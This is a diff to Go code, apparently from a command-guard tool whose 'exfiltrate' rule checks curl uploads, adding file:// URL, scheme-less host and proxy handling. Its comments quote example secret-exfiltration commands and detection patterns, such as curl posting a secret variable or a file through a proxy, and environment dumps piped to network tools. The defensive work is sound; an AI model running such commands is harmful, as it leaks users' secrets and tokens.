@@ -22,7 +22,11 @@ netcat, socat and telnet fed a file by redirection or by an upstream cat;
 socat's FILE: or OPEN: address; gh gist create FILE. An upload of a secret
 (the secret class of the path module) is denied. An upload of any other local
 file to a host that is not on network.allow_hosts (default: the loopback
-names) is asked about. The environment (env, printenv, set, export -p,
+names) is asked about; curl's host is its URL's (a URL without a scheme is
+http's: curl -d @f localhost:8080/api stays here), or its proxy's (-x,
+--proxy, --preproxy) when the URL is on the list. curl -T to a file:// URL
+copies the file on this machine: that is a write through the path guards
+(bash-write), not an upload. The environment (env, printenv, set, export -p,
 declare -x, /proc/*/environ) piped or substituted into a network command is
 denied: it holds the session's tokens. So is a network command given a
 variable that holds a secret's content (source .env; curl -d "$KEY" URL;
@@ -51,7 +55,7 @@ var curlUploadSpec = sync.OnceValue(func() optSpec {
 		"output", "user", "header", "user-agent", "referer", "cert", "key", "config", "range", "proxy", "request",
 		"cookie", "cookie-jar", "max-time", "write-out", "url", "output-dir", "connect-timeout", "retry", "continue-at",
 		"dump-header", "resolve", "connect-to", "cacert", "capath", "proxy-user", "limit-rate", "max-filesize", "quote",
-		"interface", "trace", "trace-ascii", "stderr", "netrc-file", "oauth2-bearer", "variable", "expand-url")}
+		"interface", "trace", "trace-ascii", "stderr", "netrc-file", "oauth2-bearer", "variable", "expand-url", "preproxy")}
 })
 
 func checkExfiltrate(p *Pass, c *syntax.Call) {
@@ -190,12 +194,87 @@ func firstHost(c *syntax.Call, operands []int) string {
 	return ""
 }
 
+// curlURLs are the URLs curl is given: its operands and --url values.
+func curlURLs(c *syntax.Call, opts []option, operands []int) []syntax.Arg {
+	var urls []syntax.Arg
+	for _, i := range operands {
+		urls = append(urls, c.Args[i])
+	}
+	for _, o := range find(opts, "url") {
+		urls = append(urls, o.val)
+	}
+	return urls
+}
+
+// fileURLPath returns the local path a file:// URL names (file:///tmp/x,
+// file://localhost/tmp/x; %XX decoded), and whether u is one. curl refuses
+// a file:// URL naming another host, which then names no path.
+func fileURLPath(u syntax.Arg) (string, bool) {
+	if len(u.Value) < 5 || !strings.EqualFold(u.Value[:5], "file:") {
+		return "", false
+	}
+	parsed, err := url.Parse(u.Value)
+	if err != nil || parsed.Host != "" && !strings.EqualFold(parsed.Host, "localhost") || !strings.HasPrefix(parsed.Path, "/") {
+		return "", true
+	}
+	return parsed.Path, true
+}
+
+// curlLocalOnly reports that every URL curl is given is a static file://
+// URL: what it "uploads" is copied to a file here (bash-write judges that
+// write) and nothing leaves the machine.
+func curlLocalOnly(c *syntax.Call, opts []option, operands []int) bool {
+	urls := curlURLs(c, opts, operands)
+	for _, u := range urls {
+		if _, ok := fileURLPath(u); !ok || !u.Static {
+			return false
+		}
+	}
+	return len(urls) > 0
+}
+
 func (p *Pass) curlUploads(c *syntax.Call) {
 	opts, operands := scan(c.Args, curlUploadSpec())
-	host := firstHost(c, operands)
-	for _, o := range find(opts, "url") {
-		if host == "" {
-			host = hostOf(o.val.Value)
+	if curlLocalOnly(c, opts, operands) {
+		// -T to file:// copies the file here (a write bash-write
+		// judges); a secret copied so is still read, as cp .env /tmp/x is.
+		for _, o := range find(opts, "T", "upload-file") {
+			if s, ok := p.secretOf(c.Dir, o.val); ok {
+				p.Report(c, Finding{Rule: "exfiltrate", Decision: Deny, Message: s.Reason(c.Name + " copies"), PathContext: "blocked"})
+			}
+		}
+		return
+	}
+	// Every operand is a URL; one without a scheme is http's (curl
+	// localhost:8080/api posts to localhost).
+	host := ""
+	for _, u := range curlURLs(c, opts, operands) {
+		if _, local := fileURLPath(u); local || !u.Static || u.Value == "" {
+			continue
+		}
+		v := u.Value
+		if !strings.Contains(v, "://") {
+			v = "http://" + v
+		}
+		host = hostOf(v)
+		break
+	}
+	// A proxy (-x, --proxy, --preproxy) receives what is posted to a
+	// loopback URL too: curl -x http://proxy.example:3128 -d @f localhost.
+	if host != "" && p.hostAllowed(host) {
+		for _, o := range find(opts, "x", "proxy", "preproxy") {
+			v := o.val.Value
+			if !strings.Contains(v, "://") {
+				v = "http://" + v
+			}
+			if !o.val.Static {
+				host = ""
+				break
+			}
+			if h := hostOf(v); h == "" || !p.hostAllowed(h) {
+				host = h
+				break
+			}
 		}
 	}
 	for _, o := range opts {
